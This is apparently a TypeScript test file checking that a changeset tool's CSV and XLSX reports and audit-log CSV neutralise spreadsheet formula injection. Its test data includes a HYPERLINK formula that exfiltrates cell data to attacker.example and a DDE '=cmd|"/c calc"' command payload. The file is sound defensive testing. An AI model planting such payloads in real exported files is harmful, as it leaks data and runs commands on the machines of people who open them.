import ExcelJS from 'exceljs';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { exportAudit } from '../../src/audit/audit-export.js';
import { createChangeset } from '../../src/changesets/create.js';
import { loadRevision } from '../../src/changesets/load.js';
import { writeReport } from '../../src/changesets/report.js';
import { reviewChangeset } from '../../src/changesets/review.js';
import { tempDir } from '../helpers/workspace.js';
import { reconciledWorkspace } from './helpers.js';

/**
 * Human-facing files (the review report, the audit CSV) defuse spreadsheet formulas; the values themselves
 * stay as given in the workspace and in the machine exports (test/cli/changeset-cli.test.ts checks those).
 */
const FORMULAS = [
  '=HYPERLINK("http://attacker.example/?d="&A1,"open")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\tTAB',
  '\rCR',
];

describe('the review report', () => {
  it('escapes every formula-looking value in CSV and XLSX, and the report is audited', async () => {
    const ws = await reconciledWorkspace({ user: '=cmd|"/c calc"!A0' });
    const { id } = createChangeset(ws, { categories: ['missing_owner'] });
    const owners = loadRevision(ws, id).items.slice(0, FORMULAS.length);
    owners.forEach((it, i) =>
      reviewChangeset(ws, id, { items: [it.seq], value: FORMULAS[i], comment: FORMULAS[i] }),
    );
    // Stored exactly as the reviewer typed them.
    expect(
      loadRevision(ws, id)
        .items.slice(0, FORMULAS.length)
        .map((it) => it.override?.after),
    ).toEqual(FORMULAS);

    const csvFile = path.join(tempDir(), 'report.csv');
    const csv = await writeReport(ws, id, csvFile);
    const text = readFileSync(csvFile, 'utf8');
    expect(text.startsWith('\uFEFF"Item","Kind","Status"')).toBe(true);
    // Every cell is quoted; no cell starts with a formula character once its quote is opened.
    for (const f of FORMULAS) {
      expect(text).toContain(`"'${f.replace(/"/g, '""')}"`);
      expect(text).not.toMatch(
        new RegExp(`(^|,)"${f.slice(0, 1).replace(/[+\\^$*?.()|[\]{}]/g, '\\$&')}`, 'm'),
      );
    }
    expect(csv.rows).toBe(loadRevision(ws, id).items.length);

    const xlsxFile = path.join(tempDir(), 'report.xlsx');
    await writeReport(ws, id, xlsxFile);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(xlsxFile);
    const cells: string[] = [];
    wb.getWorksheet('Items')!.eachRow((row) =>
      row.eachCell((c) => {
        if (typeof c.value === 'string') cells.push(c.value);
        expect(c.formula, `a formula cell at ${c.address}`).toBeUndefined();
      }),
    );
    // XML text normalises a carriage return to a line feed; the apostrophe in front is what matters.
    const eol = (t: string) => t.replace(/\r\n?/g, '\n');
    for (const f of FORMULAS) expect(cells.map(eol)).toContain(eol(`'${f}`));
    expect(cells.some((c) => /^[=+\-@\t\r]/.test(c))).toBe(false);

    const entries = ws.db
      .prepare("SELECT detail FROM audit_log WHERE action = 'changeset.report' ORDER BY seq")
      .all() as {
      detail: string;
    }[];
    expect(entries.map((e) => JSON.parse(e.detail) as { file: string; rows: number })).toEqual([
      expect.objectContaining({ file: csvFile, rows: csv.rows }),
      expect.objectContaining({ file: xlsxFile }),
    ]);
    ws.close();
  });
});

describe('the audit CSV', () => {
  it('escapes an actor or detail a spreadsheet would run; the JSON keeps them exactly, so the chain verifies', async () => {
    const actor = '=cmd|"/c calc"!A0';
    const ws = await reconciledWorkspace({ user: actor });
    const { id } = createChangeset(ws, { categories: ['missing_owner'] });
    reviewChangeset(ws, id, { items: [1], value: '@SUM(A1)', comment: '-1' });
    const dir = tempDir();
    const r = exportAudit(ws, dir);
    expect(r.verification.ok).toBe(true);
    const csv = readFileSync(path.join(dir, 'audit-log.csv'), 'utf8');
    expect(csv).toContain(`"'=cmd|""/c calc""!A0"`);
    expect(csv).not.toContain(`,"=cmd`);
    const json = JSON.parse(readFileSync(path.join(dir, 'audit-log.json'), 'utf8')) as {
      entries: { actor: string; detail: string }[];
    };
    expect(json.entries.filter((e) => e.actor === actor).length).toBeGreaterThanOrEqual(2);
    expect(json.entries.some((e) => e.detail.includes('"@SUM(A1)"'))).toBe(true);
    ws.close();
  });
});
